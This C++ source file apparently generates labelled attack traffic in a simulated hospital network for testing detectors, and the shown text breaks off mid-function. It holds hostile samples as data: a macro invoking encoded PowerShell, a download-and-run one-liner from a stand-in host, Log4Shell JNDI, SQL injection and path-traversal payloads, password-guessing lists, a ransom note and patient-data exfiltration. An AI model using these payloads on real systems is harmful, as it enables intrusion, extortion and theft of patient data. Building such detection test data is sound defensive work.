// Attack scenarios. Each injects its malicious traffic into the background at a simulated time
// and writes one label per technique: ATT&CK id, hosts (attacker first), the flows it used and
// what a detector should report. Attack infrastructure uses the internet hosts of the config
// (attacker-scanner, cdn-update-check.example, files.cloudshare-storage.example ...).
#include <functional>

#include "proto/proto.h"
#include "scenarios.h"

namespace ww::sim {

namespace {

constexpr const char* kEicar =
    "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

Host& compromised_ws(Sim& sim) {
  auto ws = sim.net.in_zone("clinical");
  std::vector<Host*> w;
  for (Host* h : ws)
    if (h->role == "workstation") w.push_back(h);
  return *w[3 % w.size()];  // the same patient-zero in every scenario
}

Host& attacker(Sim& sim) { return sim.net.internet_ip(0x2d891509, "attacker-scanner"); }  // 45.137.21.9
Host& c2(Sim& sim) { return sim.net.internet("cdn-update-check.example"); }

void finish(Label& l, Ts end) { l.end = std::max(l.end, end); }

// ---- ransomware over SMB ----
void ransomware(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& ws = compromised_ws(sim);
  Host& fs = *sim.net.role("fileserver");
  Session& s = sim.open(t);
  resolve(sim, s, ws, fs);
  Tcp tcp(sim, s, ws, fs, 445);
  tcp.connect();
  SmbClient smb(sim, tcp, ws, fs);
  smb.negotiate();
  smb.session_setup("STMARYS", "svc_backup");
  smb.tree_connect("Clinical");
  Label& disc = sim.label("File and Directory Discovery", "T1083", "discovery",
                          "SMB directory enumeration of many folders on the file server in a short time", tcp.now());
  disc.add_host(ws);
  disc.add_host(fs);
  disc.add_flow(tcp.tuple());
  static const char* kDirs[] = {"Handover", "Rota", "Reports", "Forms", "Policies", "Discharge"};
  std::vector<std::pair<std::string, std::vector<std::string>>> tree;
  for (const char* d : kDirs) {
    std::vector<std::string> names;
    int n = 4 + static_cast<int>(r.below(4));
    for (int i = 0; i < n; ++i)
      names.push_back(lorem(r, 1) + "_" + r.digits(3) + (r.chance(0.5) ? ".docx" : ".xlsx"));
    smb.list_dir(d, names);
    tree.emplace_back(d, names);
  }
  finish(disc, tcp.now());
  Label& enc = sim.label("Data Encrypted for Impact", "T1486", "impact",
                         "Ransomware: mass read, overwrite and rename of files to the .wwlock extension over SMB, ransom notes written",
                         tcp.now());
  enc.add_host(ws);
  enc.add_host(fs);
  enc.add_flow(tcp.tuple());
  const std::string note =
      "YOUR FILES ARE ENCRYPTED.\r\nAll patient documents on this server were encrypted with "
      "AES-256. To restore them contact restore@wwlock.example with your ID " + r.hex(8) +
      ".\r\nDo not rename the files.\r\n";
  for (const auto& [dir, names] : tree) {
    for (const auto& name : names) {
      std::string path = dir + "\\" + name;
      uint64_t fid = smb.create(path, true);
      size_t size = sim.scaled(8000 + r.below(140000));
      smb.read(fid, size);
      Bytes enc_data(size);
      r.fill(enc_data.data(), size);
      smb.write(fid, enc_data);
      smb.rename(fid, path + ".wwlock");
      smb.close(fid);
    }
    uint64_t nf = smb.create(dir + "\\README_RESTORE_FILES.txt", true, true);
    smb.write(nf, as_bytes(note));
    smb.close(nf);
  }
  smb.logoff();
  tcp.close(Dir::kC2S);
  finish(enc, tcp.now());
}

// ---- phishing mail with a malicious attachment ----
void phishing(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Session& s = sim.open(t);
  Host& sender = sim.net.internet("mx.invoices-secure.example");
  Host& mail = *sim.net.role("mail");
  Host& ws = compromised_ws(sim);
  Mail m;
  m.from = "accounts@invoices-secure.example";
  m.to = ws.name + "@" + sim.net.domain;
  m.subject = "Overdue invoice 2024-0318 - action required";
  m.body = "Dear colleague,\r\n\r\nplease find attached the overdue invoice. Enable editing and "
           "content to view it.\r\n\r\nAccounts team";
  m.attachment_name = "Invoice_2024-0318.docm";
  m.attachment_type = "application/vnd.ms-word.document.macroEnabled.12";
  std::string doc = std::string("PK\x03\x04\x14\x00\x06\x00", 8) + "word/vbaProject.bin" +
                    "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Shell \"powershell "
                    "-nop -w hidden -enc " + r.alnum(120) + "\"\r\nEnd Sub\r\n";
  m.attachment.assign(doc.begin(), doc.end());
  m.attachment.resize(24000);
  r.fill(m.attachment.data() + doc.size(), m.attachment.size() - doc.size());
  Label& l = sim.label("Phishing: Spearphishing Attachment", "T1566.001", "initial-access",
                       "Inbound mail with a macro-enabled Office attachment (AutoOpen, powershell -enc) from a new external domain",
                       s.now);
  l.add_host(sender);
  l.add_host(mail);
  l.add_flow(smtp_send(sim, s, sender, mail, m));
  finish(l, s.now);
  // The user opens it: the macro fetches a second stage.
  s.now += r.range(30 * kSec, 60 * kSec);
  Host& stage = sim.net.internet("invoices-secure.example");
  Label& l2 = sim.label("User Execution: Malicious File", "T1204.002", "execution",
                        "Workstation downloads a PowerShell script right after receiving a phishing mail", s.now);
  l2.add_host(ws);
  l2.add_host(stage);
  resolve(sim, s, ws, stage);
  Tcp tcp(sim, s, ws, stage, 80);
  tcp.connect();
  HttpReq q;
  q.host = stage.fqdn;
  q.uri = "/invoice/view.ps1";
  q.user_agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.19041.3930";
  HttpResp a;
  a.content_type = "text/plain";
  a.body = "$c=New-Object Net.WebClient;$c.DownloadFile('http://cdn-update-check.example/u.exe',\"$env:TEMP\\u.exe\");Start-Process \"$env:TEMP\\u.exe\"\r\n";
  http_exchange(tcp, r, q, a, r.range(50 * kMs, 200 * kMs));
  tcp.close(Dir::kC2S);
  l2.add_flow(tcp.tuple());
  finish(l2, s.now);
}

// ---- exploit of the public web application ----
void web_exploit(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& a = attacker(sim);
  Host& web = *sim.net.role("webportal");
  Session& s = sim.open(t);
  struct Probe {
    const char* technique;
    std::string uri;
    std::vector<std::pair<std::string, std::string>> headers;
    int status;
    std::string body;
    const char* expected;
  };
  std::string jndi = "${jndi:ldap://45.137.21.9:1389/Basic/Command/Base64/" + r.alnum(24) + "}";
  std::vector<Probe> probes = {
      {"log4shell", "/portal/login", {{"X-Api-Version", jndi}, {"Referer", jndi}}, 200, "<html>login</html>",
       "Log4Shell JNDI lookup string (${jndi:ldap://...}) in HTTP headers"},
      {"sqli", "/portal/search?mrn=1%27%20OR%20%271%27%3D%271%27--%20", {}, 500,
       "<html>ERROR: syntax error at or near \"OR\"</html>", "SQL injection in a query parameter (' OR '1'='1' --)"},
      {"sqli", "/portal/search?mrn=1%20UNION%20SELECT%20username,password%20FROM%20users--", {}, 200,
       "<html>admin|5f4dcc3b5aa765d61d8327deb882cf99</html>", "SQL injection UNION SELECT"},
      {"traversal", "/portal/download?file=../../../../etc/passwd", {}, 200,
       "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
       "Path traversal (../../etc/passwd) answered with passwd content"},
      {"traversal", "/static/..%2f..%2f..%2f..%2fwindows%2fwin.ini", {}, 404, "<html>not found</html>",
       "Encoded path traversal (..%2f)"},
  };
  Label& l = sim.label("Exploit Public-Facing Application", "T1190", "initial-access",
                       "Web attacks on the patient portal: Log4Shell JNDI injection, SQL injection, path traversal",
                       s.now);
  l.add_host(a);
  l.add_host(web);
  for (const auto& p : probes) {
    Tcp tcp(sim, s, a, web, 80);
    tcp.connect();
    HttpReq q;
    q.host = "portal.stmarys.example";
    q.uri = p.uri;
    q.user_agent = std::string(p.technique) == "log4shell" ? jndi : "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))";
    q.headers = p.headers;
    HttpResp resp;
    resp.status = p.status;
    resp.body = p.body;
    http_exchange(tcp, r, q, resp, r.range(5 * kMs, 80 * kMs));
    tcp.close(Dir::kC2S);
    l.add_flow(tcp.tuple());
    s.now += r.range(300 * kMs, 3 * kSec);
  }
  // The vulnerable logger calls back to the attacker's LDAP server.
  Tcp cb(sim, s, web, a, 1389);
  cb.connect();
  static const uint8_t kBind[] = {0x30, 0x0c, 0x02, 0x01, 0x01, 0x60, 0x07, 0x02, 0x01, 0x03, 0x04, 0x00, 0x80, 0x00};
  cb.send(Dir::kC2S, kBind, r.range(1 * kMs, 5 * kMs));
  cb.send(Dir::kS2C, std::string("\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x00\x04\x00\x04\x00", 14), r.range(1 * kMs, 5 * kMs));
  cb.close(Dir::kC2S);
  l.add_flow(cb.tuple());
  finish(l, s.now);
}

// ---- C2 beaconing with jitter ----
void c2_beacon(Sim& sim, Ts t) {
  Host& ws = compromised_ws(sim);
  Host& srv = c2(sim);
  size_t idx = sim.labels.size();
  Label& l = sim.label("Application Layer Protocol: Web Protocols (C2 beaconing)", "T1071.001",
                       "command-and-control",
                       "Periodic HTTP and HTTPS callbacks every ~60 s (+-20% jitter) from one workstation to the same rare external host",
                       t);
  l.add_host(ws);
  l.add_host(srv);
  std::string id = sim.rng.hex(8);
  auto beat = std::make_shared<std::function<void(Sim&, Ts, int)>>();
  *beat = [&ws, &srv, idx, id, beat](Sim& s, Ts now, int n) {
    Session& ss = s.open(now);
    Rng& r = s.rng;
    resolve(s, ss, ws, srv);
    bool https = n % 3 == 2;
    Tcp tcp(s, ss, ws, srv, https ? 443 : 80);
    tcp.connect();
    if (https) {
      TlsParams p;
      p.sni = srv.fqdn;
      p.tls13 = false;
      p.up = 300;
      p.down = 200;
      tls_session(s, tcp, p);
    } else {
      HttpReq q;
      q.host = srv.fqdn;
      q.uri = "/api/v2/check?id=" + id + "&n=" + std::to_string(n);
      q.user_agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko";
      q.headers = {{"Cookie", "session=" + r.alnum(32)}};
      HttpResp a;
      a.content_type = "application/octet-stream";
      a.body = r.chance(0.9) ? "" : r.alnum(64);
      if (a.body.empty()) a.status = 204;
      http_exchange(tcp, r, q, a, r.range(20 * kMs, 60 * kMs));
    }
    tcp.close(Dir::kC2S);
    Label& lab = s.labels[idx];
    if (lab.flows.size() < 500) lab.add_flow(tcp.tuple());
    lab.end = std::max(lab.end, ss.now);
    Ts gap = s.rng.jitter(60 * kSec, 0.2);
    if (n < 600) s.at(now + gap, [beat, n](Sim& s2, Ts t2) { (*beat)(s2, t2, n + 1); });
  };
  sim.at(t, [beat](Sim& s, Ts now) { (*beat)(s, now, 0); });
}

// ---- DGA lookups ----
void dga(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& ws = compromised_ws(sim);
  Session& s = sim.open(t);
  Label& l = sim.label("Dynamic Resolution: Domain Generation Algorithms", "T1568.002",
                       "command-and-control",
                       "Burst of lookups for random-looking domains, most NXDOMAIN, from one host", t);
  l.add_host(ws);
  l.add_host(*sim.net.role("dns"));
  static const char* kTlds[] = {".com", ".net", ".info", ".biz", ".org", ".top"};
  int n = 40 + static_cast<int>(r.below(30));
  std::string hit;
  for (int i = 0; i < n; ++i) {
    std::string name;
    size_t len = 10 + r.below(12);
    for (size_t k = 0; k < len; ++k) name.push_back(static_cast<char>('a' + r.below(26)));
    name += kTlds[r.below(std::size(kTlds))];
    bool resolves = i == n - 1;
    std::vector<DnsRr> ans;
    if (resolves) {
      hit = name;
      ans.push_back(DnsRr{1, name, "", sim.net.internet(name).ip, {}, 60});
    }
    l.add_flow(dns_query(sim, s, ws, name, 1, ans, resolves ? 0 : 3, true));
    s.now += r.range(50 * kMs, 600 * kMs);
  }
  Host& srv = sim.net.internet(hit);
  Tcp tcp(sim, s, ws, srv, 443);
  tcp.connect();
  TlsParams p;
  p.sni = hit;
  p.tls13 = false;
  tls_session(sim, tcp, p);
  tcp.close(Dir::kC2S);
  l.add_host(srv);
  l.add_flow(tcp.tuple());
  finish(l, s.now);
}

// ---- DNS tunnelling ----
void dns_tunnel(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& ws = compromised_ws(sim);
  Session& s = sim.open(t);
  Label& l = sim.label("Application Layer Protocol: DNS (tunnelling)", "T1071.004", "command-and-control",
                       "DNS tunnel: many long, high-entropy TXT queries to one domain (t.exfil-dns.example) with TXT answers",
                       t);
  l.add_host(ws);
  l.add_host(*sim.net.role("dns"));
  static const char* kB32 = "abcdefghijklmnopqrstuvwxyz234567";
  int n = 120 + static_cast<int>(r.below(60));
  for (int i = 0; i < n; ++i) {
    std::string a, b;
    for (int k = 0; k < 60; ++k) a.push_back(kB32[r.below(32)]);
    for (int k = 0; k < 40; ++k) b.push_back(kB32[r.below(32)]);
    std::string name = a + "." + b + "." + std::to_string(i) + ".t.exfil-dns.example";
    DnsRr rr{16, name, "", 0, {r.alnum(100 + r.below(120))}, 0};
    l.add_flow(dns_query(sim, s, ws, name, 16, {rr}, 0, true));
    s.now += r.range(100 * kMs, 1500 * kMs);
  }
  finish(l, s.now);
}

// ---- port scans ----
void port_scan(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& ws = compromised_ws(sim);
  Session& s = sim.open(t);
  Label& h = sim.label("Network Service Discovery (horizontal scan)", "T1046", "discovery",
                       "Horizontal SYN scan of TCP 445 and 3389 across the imaging and IoMT subnets from a clinical workstation",
                       t);
  h.add_host(ws);
  uint16_t sport = static_cast<uint16_t>(40000 + r.below(20000));
  for (const char* zname : {"imaging", "iomt"}) {
    const Zone* z = sim.net.zone(zname);
    for (uint32_t ip = z->net + 2; ip < z->net + 2 + 80; ++ip) {
      Host* target = sim.net.by_ip(ip);
      Host ghost;
      if (!target) {
        ghost.ip = ip;
        ghost.netmask = z->mask;
        ghost.mac = sim.net.router;
        ghost.zone = zname;
        target = &ghost;
      }
      for (uint16_t port : {445, 3389}) {
        Tcp tcp(sim, s, ws, *target, port, sport);
        bool exists = target != &ghost;
        bool open = exists && port == 445 && target->os == "windows";
        if (!exists) {
          TcpSeg seg{sport, port, r.u32(), 0, kSyn, 1024, 1460};
          emit_tcp(s, s.now, route(ws, *target, sim.net.router), seg, nullptr, 0);
        } else {
          tcp.syn_probe(open);
        }
        h.add_flow(FiveTuple{Proto::kTcp, ws.ip, sport, ip, port});
        s.now += r.range(300, 3000);
      }
    }
  }
  finish(h, s.now);
  // Vertical scan and service probes of the DMZ web server from the internet.
  Host& a = attacker(sim);
  Host& web = *sim.net.role("webportal");
  s.now += r.range(5 * kSec, 20 * kSec);
  Label& v = sim.label("Network Service Discovery (vertical scan)", "T1046", "reconnaissance",
                       "Vertical SYN scan of ports 1-1024 and common services on the patient portal from an internet address, then banner grabs",
                       s.now);
  v.add_host(a);
  v.add_host(web);
  std::vector<uint16_t> ports;
  for (uint16_t p = 1; p <= 1024; ++p) ports.push_back(p);
  for (uint16_t p : {1433, 1521, 2575, 3306, 3389, 5432, 5900, 8080, 8443, 11112}) ports.push_back(p);
  uint16_t vsport = static_cast<uint16_t>(40000 + r.below(20000));
  for (uint16_t p : ports) {
    Tcp tcp(sim, s, a, web, p, vsport);
    bool open = p == 80 || p == 443 || p == 22;
    tcp.syn_probe(open);
    if (v.flows.size() < 200 || open) v.add_flow(tcp.tuple());
    s.now += r.range(100, 1500);
  }
  for (uint16_t p : {22, 80}) {
    Tcp tcp(sim, s, a, web, p);
    tcp.connect();
    if (p == 22) {
      tcp.send(Dir::kS2C, "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6\r\n", r.range(2 * kMs, 10 * kMs));
    } else {
      HttpReq q;
      q.method = "HEAD";
      q.host = ip_str(web.ip);
      q.user_agent = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
      tcp.send(Dir::kC2S, http_request(q), r.range(1 * kMs, 5 * kMs));
      tcp.send(Dir::kS2C, "HTTP/1.1 200 OK\r\nServer: Apache-Coyote/1.1\r\nContent-Length: 0\r\n\r\n", r.range(1 * kMs, 5 * kMs));
    }
    tcp.reset(Dir::kC2S);
    v.add_flow(tcp.tuple());
  }
  finish(v, s.now);
}

// ---- brute force ----
void brute_force(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& a = attacker(sim);
  Host& web = *sim.net.role("webportal");
  Host& ws = compromised_ws(sim);
  {
    Session& s = sim.open(t);
    Label& l = sim.label("Brute Force: Password Guessing (SSH)", "T1110.001", "credential-access",
                         "Many short failed SSH logins from one internet address to the DMZ server", t);
    l.add_host(a);
    l.add_host(web);
    for (int i = 0; i < 40; ++i) {
      l.add_flow(ssh_session(sim, s, a, web, false, 0));
      s.now += r.range(200 * kMs, 2 * kSec);
    }
    finish(l, s.now);
  }
  if (Host* ftp = sim.net.role("ftp_legacy")) {
    Session& s = sim.open(t + 20 * kSec);
    Label& l = sim.label("Brute Force: Password Guessing (FTP)", "T1110.001", "credential-access",
                         "Repeated FTP 530 Login incorrect for user admin, then a successful login", s.now);
    l.add_host(ws);
    l.add_host(*ftp);
    static const char* kPw[] = {"admin", "password", "123456", "ftp", "scan", "letmein", "Welcome1", "imaging", "qwerty", "P@ssw0rd"};
    for (int i = 0; i < 25; ++i) {
      FtpParams p;
      p.user = "admin";
      p.pass = kPw[i % 10] + std::string(i >= 10 ? std::to_string(i) : "");
      p.login_ok = i == 24;
      p.bytes = 40000;
      p.file = "archive_2019.zip";
      l.add_flow(ftp_session(sim, s, ws, *ftp, p));
      s.now += r.range(100 * kMs, 800 * kMs);
    }
    finish(l, s.now);
  }
  auto hv = sim.net.with_role("hvac");
  if (!hv.empty()) {
    Session& s = sim.open(t + 40 * kSec);
    Host& tgt = *hv.back();
    Label& l = sim.label("Brute Force: Password Guessing (Telnet)", "T1110.001", "credential-access",
                         "Repeated failed Telnet logins to a building-management controller", s.now);
    l.add_host(ws);
    l.add_host(tgt);
    static const char* kUsers[] = {"root", "admin", "user", "maint", "support"};
    for (int i = 0; i < 15; ++i) {
      l.add_flow(telnet_session(sim, s, ws, tgt, kUsers[i % 5], r.alnum(6, true), false));
      s.now += r.range(200 * kMs, 1 * kSec);
    }
    finish(l, s.now);
  }
  {
    Session& s = sim.open(t + 60 * kSec);
    Host& fs = *sim.net.role("fileserver");
    Label& l = sim.label("Brute Force: Password Spraying (SMB)", "T1110.003", "credential-access",
                         "Many SMB2 NTLM session setups failing with STATUS_LOGON_FAILURE for different users", s.now);
    l.add_host(ws);
    l.add_host(fs);
    static const char* kUsers[] = {"administrator", "admin", "backup", "jsmith", "apatel", "pacsadmin",
                                   "svc_sql", "nurse1", "radiology", "helpdesk"};
    for (int i = 0; i < 30; ++i) {
      Tcp tcp(sim, s, ws, fs, 445);
      tcp.connect();
      SmbClient smb(sim, tcp, ws, fs);
      smb.negotiate();
      smb.session_setup("STMARYS", kUsers[i % 10], false);
      tcp.close(Dir::kC2S);
      l.add_flow(tcp.tuple());
      s.now += r.range(50 * kMs, 400 * kMs);
    }
    finish(l, s.now);
  }
}

// ---- exfiltration of patient data ----
void exfiltration(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& ws = compromised_ws(sim);
  Host& drop = sim.net.internet_ip(0xb9dc6521, "drop.exfil-host.example");  // 185.220.101.33
  Session& s = sim.open(t);
  Label& l = sim.label("Exfiltration Over Unencrypted Non-C2 Protocol", "T1048.003", "exfiltration",
                       "Patient data in cleartext (HL7 v2 over MLLP, FHIR Bundle over HTTP, DICOM C-STORE) sent to an internet address",
                       t);
  l.add_host(ws);
  l.add_host(drop);
  std::vector<std::string> types(12, "ADT^A08");
  l.add_flow(hl7_session(sim, s, ws, drop, 2575, types, "EPIC"));
  s.now += r.range(2 * kSec, 10 * kSec);
  {
    Tcp tcp(sim, s, ws, drop, 80);
    tcp.connect();
    std::string entries;
    for (int i = 0; i < 25; ++i)
      entries += std::string(i ? "," : "") + "{\"resource\":" + fhir_patient_json(r, random_patient(r)) + "}";
    HttpReq q;
    q.method = "POST";
    q.host = "drop.exfil-host.example";
    q.uri = "/upload/fhir";
    q.content_type = "application/fhir+json";
    q.body = "{\"resourceType\":\"Bundle\",\"type\":\"collection\",\"entry\":[" + entries + "]}";
    q.user_agent = "python-requests/2.31.0";
    HttpResp a;
    a.content_type = "application/json";
    a.body = "{\"ok\":true}";
    http_exchange(tcp, r, q, a, r.range(50 * kMs, 200 * kMs));
    tcp.close(Dir::kC2S);
    l.add_flow(tcp.tuple());
  }
  s.now += r.range(2 * kSec, 10 * kSec);
  {
    Host* mod = sim.net.role("modality");
    DicomStudy st = random_study(r, *mod, sim.bulk);
    st.images = 3;
    st.image_bytes = sim.scaled(256 * 512 * 2);
    l.add_flow(dicom_association(sim, s, ws, drop, DicomOp::kStore, st));
  }
  finish(l, s.now);
  s.now += r.range(5 * kSec, 20 * kSec);
  Host& cloud = sim.net.internet("files.cloudshare-storage.example");
  Label& l2 = sim.label("Exfiltration to Cloud Storage", "T1567.002", "exfiltration",
                        "Large upload (several MB, upload >> download) over TLS to a cloud file-sharing host",
                        s.now);
  l2.add_host(ws);
  l2.add_host(cloud);
  resolve(sim, s, ws, cloud);
  Tcp tcp(sim, s, ws, cloud, 443);
  tcp.connect();
  TlsParams p;
  p.sni = cloud.fqdn;
  p.tls13 = false;
  p.up = sim.scaled(6000000);
  p.down = 4000;
  tls_session(sim, tcp, p);
  tcp.close(Dir::kC2S);
  l2.add_flow(tcp.tuple());
  finish(l2, s.now);
}

// ---- rogue HL7 sender ----
void rogue_hl7(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& rogue = sim.net.add_internal("rpi-rogue", "rogue", "clinical", "Raspberry Pi", "linux");
  rogue.dhcp = true;
  Host& engine = *sim.net.role("hl7_engine");
  Session& s = sim.open(t);
  dhcp_lease(sim, s, rogue);
  s.now += r.range(5 * kSec, 20 * kSec);
  Label& l = sim.label("Transmitted Data Manipulation (rogue HL7 sender)", "T1565.002", "impact",
                       "A new, unknown device (Raspberry Pi MAC) sends HL7 ADT/ORU messages to the interface engine",
                       s.now);
  l.add_host(rogue);
  l.add_host(engine);
  for (int i = 0; i < 3; ++i) {
    l.add_flow(hl7_session(sim, s, rogue, engine, 2575, {"ADT^A08", "ORU^R01", "ORU^R01"}, "LABSYS"));
    s.now += r.range(5 * kSec, 15 * kSec);
  }
  finish(l, s.now);
}

// ---- DICOM file with a PE preamble, over HTTP (WADO) and SMB ----
void dicom_pe(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& ws = compromised_ws(sim);
  Host& src = sim.net.internet("images.radshare.example");
  Session& s = sim.open(t);
  Host* mod = sim.net.role("modality");
  DicomStudy st = random_study(r, *mod, sim.bulk);
  Bytes file = dicom_part10(r, st, 64 * 512 * 2, true);
  Label& l = sim.label("Embedded Payloads (DICOM preamble with PE header)", "T1027.009", "defense-evasion",
                       "DICOM Part 10 file whose 128-byte preamble starts with an MZ/PE executable header, downloaded over HTTP (WADO)",
                       t);
  l.add_host(src);
  l.add_host(ws);
  resolve(sim, s, ws, src);
  Tcp tcp(sim, s, ws, src, 80);
  tcp.connect();
  HttpReq q;
  q.host = src.fqdn;
  q.uri = "/wado?requestType=WADO&studyUID=" + st.study_uid + "&seriesUID=" + st.series_uid +
          "&objectUID=1.2.826.0.1.3680043.10.543.7&contentType=application/dicom";
  q.user_agent = user_agent_for(ws);
  HttpResp a;
  a.content_type = "application/dicom";
  a.body.assign(file.begin(), file.end());
  a.headers = {{"Content-Disposition", "attachment; filename=\"study_0042.dcm\""}};
  http_exchange(tcp, r, q, a, r.range(20 * kMs, 100 * kMs));
  tcp.close(Dir::kC2S);
  l.add_flow(tcp.tuple());
  finish(l, s.now);
  s.now += r.range(10 * kSec, 30 * kSec);
  Host& fs = *sim.net.role("fileserver");
  Label& l2 = sim.label("Lateral Tool Transfer (DICOM/PE polyglot over SMB)", "T1570", "lateral-movement",
                        "The DICOM file with a PE preamble is copied to the file server over SMB", s.now);
  l2.add_host(ws);
  l2.add_host(fs);
  resolve(sim, s, ws, fs);
  Tcp t2(sim, s, ws, fs, 445);
  t2.connect();
  SmbClient smb(sim, t2, ws, fs);
  smb.negotiate();
  smb.session_setup("STMARYS", "jsmith");
  smb.tree_connect("Clinical");
  uint64_t fid = smb.create("Imaging\\study_0042.dcm", true, true);
  smb.write(fid, file);
  smb.close(fid);
  smb.logoff();
  t2.close(Dir::kC2S);
  l2.add_flow(t2.tuple());
  finish(l2, s.now);
}

// ---- medical device talking to the internet ----
void device_internet(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  auto pumps = sim.net.with_role("pump");
  Host& pump = *pumps[1 % pumps.size()];
  Host& ext = sim.net.internet("remote.medvendor-support.example");
  Session& s = sim.open(t);
  Label& l = sim.label("Medical device communicating with the internet", "T1071.001", "command-and-control",
                       "An infusion pump (IoMT zone) resolves and connects to an internet host over HTTP and TLS",
                       t);
  l.add_host(pump);
  l.add_host(ext);
  resolve(sim, s, pump, ext);
  {
    Tcp tcp(sim, s, pump, ext, 80);
    tcp.connect();
    HttpReq q;
    q.method = "POST";
    q.host = ext.fqdn;
    q.uri = "/device/checkin";
    q.user_agent = user_agent_for(pump);
    q.content_type = "application/json";
    q.body = "{\"serial\":\"SN" + r.digits(8) + "\",\"fw\":\"4.2.1\",\"drug_library\":\"2023Q4\",\"patient_bed\":\"WARD" +
             std::string(1, static_cast<char>('A' + r.below(6))) + "-" + std::to_string(1 + r.below(30)) + "\"}";
    HttpResp a;
    a.content_type = "application/json";
    a.body = "{\"update\":false}";
    http_exchange(tcp, r, q, a, r.range(50 * kMs, 200 * kMs));
    tcp.close(Dir::kC2S);
    l.add_flow(tcp.tuple());
  }
  s.now += r.range(1 * kSec, 5 * kSec);
  Tcp tcp(sim, s, pump, ext, 443);
  tcp.connect();
  TlsParams p;
  p.sni = ext.fqdn;
  p.tls13 = false;
  p.up = 3000;
  p.down = 60000;
  tls_session(sim, tcp, p);
  tcp.close(Dir::kC2S);
  l.add_flow(tcp.tuple());
  finish(l, s.now);
}

// ---- lateral movement to the imaging zone ----
void lateral_imaging(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& ws = compromised_ws(sim);
  Host* target = nullptr;
  for (Host* m : sim.net.with_role("modality"))
    if (m->os == "windows") {
      target = m;
      break;
    }
  if (!target) target = sim.net.role("reading_station");
  Session& s = sim.open(t);
  Label& l = sim.label("Remote Services: SMB/Windows Admin Shares", "T1021.002", "lateral-movement",
                       "Clinical workstation logs on to an imaging modality over SMB, connects to ADMIN$ and writes an executable",
                       t);
  l.add_host(ws);
  l.add_host(*target);
  Tcp tcp(sim, s, ws, *target, 445);
  tcp.connect();
  SmbClient smb(sim, tcp, ws, *target);
  smb.negotiate();
  smb.session_setup(".", "Administrator");
  smb.tree_connect("ADMIN$");
  uint64_t fid = smb.create("Temp\\svchost_update.exe", true, true);
  Bytes exe(90000);
  r.fill(exe.data(), exe.size());
  const char mz[] = "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff";
  std::memcpy(exe.data(), mz, sizeof mz - 1);
  std::memcpy(exe.data() + 0x4e, "This program cannot be run in DOS mode.", 39);
  smb.write(fid, exe);
  smb.close(fid);
  smb.logoff();
  tcp.close(Dir::kC2S);
  l.add_flow(tcp.tuple());
  finish(l, s.now);
  s.now += r.range(5 * kSec, 15 * kSec);
  Host& pacs = *sim.net.role("pacs");
  Label& l2 = sim.label("Remote System Discovery over DICOM", "T1018", "discovery",
                        "A clinical (non-imaging) workstation opens DICOM associations (C-ECHO, C-FIND) to the PACS and worklist",
                        s.now);
  l2.add_host(ws);
  l2.add_host(pacs);
  DicomStudy st;
  l2.add_flow(dicom_association(sim, s, ws, pacs, DicomOp::kEcho, st));
  if (Host* ris = sim.net.role("ris")) {
    l2.add_host(*ris);
    st.modality = "CT";
    l2.add_flow(dicom_association(sim, s, ws, *ris, DicomOp::kFindMwl, st));
  }
  finish(l2, s.now);
}

// ---- HL7: a sender whose messages are all refused (NAK storm) ----
void hl7_nak_storm(Sim& sim, Ts t) {
  Host& lis = *sim.net.role("lis");
  Host& engine = *sim.net.role("hl7_engine");
  Session& s = sim.open(t);
  Label& l = sim.label("Transmitted Data Manipulation (HL7 messages refused)", "T1565.002", "impact",
                       "The interface engine refuses a burst of HL7 results (MSA|AE): at least 10 negative acknowledgments within a minute",
                       t);
  l.add_host(lis);
  l.add_host(engine);
  std::vector<std::string> types(14, "ORU^R01");
  l.add_flow(hl7_session(sim, s, lis, engine, 2575, types, "LAB_LIS", false));
  finish(l, s.now);
}

// ---- HL7 from the internet: patient merges injected into the interface engine ----
void hl7_external(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& a = attacker(sim);
  Host& engine = *sim.net.role("hl7_engine");
  Session& s = sim.open(t);
  Label& l = sim.label("Transmitted Data Manipulation (HL7 from the internet)", "T1565.002", "impact",
                       "An internet address sends HL7 ADT patient merges (A40) and updates to the interface engine",
                       t);
  l.add_host(a);
  l.add_host(engine);
  sim.dns_cached(a, engine.fqdn, s.now, 5 * kMin);  // the attacker asks no hospital resolver
  s.now += r.range(10 * kMs, 100 * kMs);
  l.add_flow(hl7_session(sim, s, a, engine, 2575, {"ADT^A40", "ADT^A40", "ADT^A08"}, "EPIC"));
  finish(l, s.now);
}

// ---- DICOM reconnaissance and bulk retrieval from a workstation ----
void dicom_recon(Sim& sim, Ts t) {
  Rng& r = sim.rng;
  Host& ws = compromised_ws(sim);
  Host& pacs = *sim.net.role("pacs");
  Session& s = sim.open(t);
  Label& l = sim.label("Data from Information Repositories (DICOM query and retrieve)", "T1213", "collection",
                       "A workstation runs bulk C-FIND queries at PATIENT and STUDY root against the PACS, then bulk C-MOVE retrievals",
                       t);
  l.add_host(ws);
  l.add_host(pacs);
  l.add_flow(dicom_dimse(sim, s, ws, pacs, "1.2.840.10008.5.1.4.1.2.1.1", 0x0020, 25, 0x0000));
  s.now += r.range(1 * kSec, 3 * kSec);
